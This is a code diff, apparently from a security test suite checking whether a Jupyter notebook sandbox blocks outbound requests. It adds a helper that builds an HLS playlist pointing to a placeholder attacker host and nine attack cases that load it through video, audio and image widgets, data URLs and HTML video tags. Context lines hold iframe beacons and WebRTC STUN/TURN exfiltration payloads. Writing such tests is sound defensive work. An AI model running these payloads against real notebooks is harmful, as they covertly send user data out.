@@ -26,6 +26,16 @@ def model(name, view=None, module="@jupyter-widgets/controls", **state):
              "_view_module": module, "_view_module_version": "2.0.0", "_view_name": view}
     return create_comm(target_name="jupyter.widget", data={"state": {**names, **state}, "buffer_paths": []},
                        metadata={"version": "2.1.0"})
+def play(name, data, view=None, format="mp4"):
+    module, view = "@jupyter-widgets/controls", view or name.replace("Model", "View")
+    names = {"_model_module": module, "_model_module_version": "2.0.0", "_model_name": name,
+             "_view_module": module, "_view_module_version": "2.0.0", "_view_name": view}
+    state = {**names, "format": format, "autoplay": True, "controls": True, "loop": True, "width": "", "height": ""}
+    return create_comm(target_name="jupyter.widget", data={"state": state, "buffer_paths": [["value"]]},
+                       metadata={"version": "2.1.0"}, buffers=[data])
+def PLAYLIST(where):
+    return (f"#EXTM3U\\n#EXT-X-VERSION:3\\n#EXT-X-TARGETDURATION:10\\n#EXT-X-MEDIA-SEQUENCE:0\\n#EXTINF:10.0,\\n"
+            f"{where}/secret.ts\\n#EXT-X-ENDLIST\\n").encode()
 def show(comm):
     show_data({"application/vnd.jupyter.widget-view+json": {"version_major": 2, "version_minor": 0,
                "model_id": comm.comm_id}, "text/plain": "widget"})
@@ -164,6 +174,15 @@ ATTACKS = (
     _framed("inside-child", "i=document.createElement('iframe');i.srcdoc='<script>new Image().src=\"EVIL/NAME/child\";new RTCPeerConnection({iceServers:[{urls:\"stun:127.0.0.1:UDP\"}]}).createDataChannel(\"x\");p=new RTCPeerConnection({iceServers:[{urls:\"stun:127.0.0.1:UDP\"}]});p.createDataChannel(\"x\");p.createOffer().then(o=>p.setLocalDescription(o))<'+'/script>';document.body.append(i)"),
     _framed("inside-markup", "document.body.insertAdjacentHTML('beforeend','<iframe srcdoc=\"&lt;script&gt;p=new RTCPeerConnection({iceServers:[{urls:`stun:127.0.0.1:UDP`}]});p.createDataChannel(`x`);p.createOffer().then(o=&gt;p.setLocalDescription(o))&lt;/script&gt;\"></iframe>')", plain=False),
     _framed("inside-script-frame", "i=document.createElement('iframe');i.src=\"javascript:p=new RTCPeerConnection({iceServers:[{urls:'stun:127.0.0.1:UDP'}]});p.createDataChannel('x');p.createOffer().then(o=>p.setLocalDescription(o))\";document.body.append(i)", plain=False),
+    Attack("playlist-widget", "v = play('VideoModel', PLAYLIST('EVIL/NAME'))\nshow(v)"),
+    Attack("playlist-sound", "v = play('AudioModel', PLAYLIST('EVIL/NAME'), format='wav')\nshow(v)"),
+    Attack("playlist-update", "v = play('VideoModel', b'')\nv.send(data={'method': 'update', 'state': {}, 'buffer_paths': [['value']]}, buffers=[PLAYLIST('EVIL/NAME')])\nshow(v)"),
+    Attack("playlist-view", "v = play('ImageModel', PLAYLIST('EVIL/NAME'), view='VideoView')\nshow(v)"),
+    Attack("playlist-text", "v = model('VideoModel', value=PLAYLIST('EVIL/NAME').decode(), format='mp4', autoplay=True, controls=True)\nshow(v)", plain=False),
+    Attack("playlist-linked", "v = play('VideoModel', b'')\ni = play('ImageModel', PLAYLIST('EVIL/NAME'))\nmodel('DirectionalLinkModel', view='', source=['IPY_MODEL_' + i.comm_id, 'value'], target=['IPY_MODEL_' + v.comm_id, 'value'])\nshow(v)", plain=False),
+    Attack("playlist-file", "open('NAME.mp4', 'wb').write(PLAYLIST('EVIL/NAME'))\nhtml('<video autoplay muted src=\"NAME.mp4\"></video>')"),
+    Attack("playlist-data", "import base64\nhtml('<video autoplay muted src=\"data:video/mp4;base64,' + base64.b64encode(PLAYLIST('EVIL/NAME')).decode() + '\"></video>')", plain=False),
+    Attack("playlist-type", "import base64\nshow_data({'video/mp4': base64.b64encode(PLAYLIST('EVIL/NAME')).decode(), 'text/plain': 'x'})", plain=False),
     _framed("inside-calls", "p=new RTCPeerConnection({iceServers:[{urls:'stun:127.0.0.1:UDP'},{urls:'turn:127.0.0.1:TCP?transport=tcp',username:'secret',credential:'c'}]});p.createDataChannel('x');p.createOffer().then(o=>p.setLocalDescription(o))", plain=False),
     _framed("inside-xml", _XML + "document.body.append(document.adoptNode(new DOMParser().parseFromString(xml,'text/xml').documentElement))", plain=False),
     _framed("inside-xml-entity", _XML + "document.body.append(document.adoptNode(new DOMParser().parseFromString('<!DOCTYPE a [<!ENTITY e \"'+xml.replaceAll('&','&#38;').replaceAll('<','&#60;').replaceAll('\"','&#34;')+'\">]><a>&e;</a>','text/xml').documentElement))", plain=False),
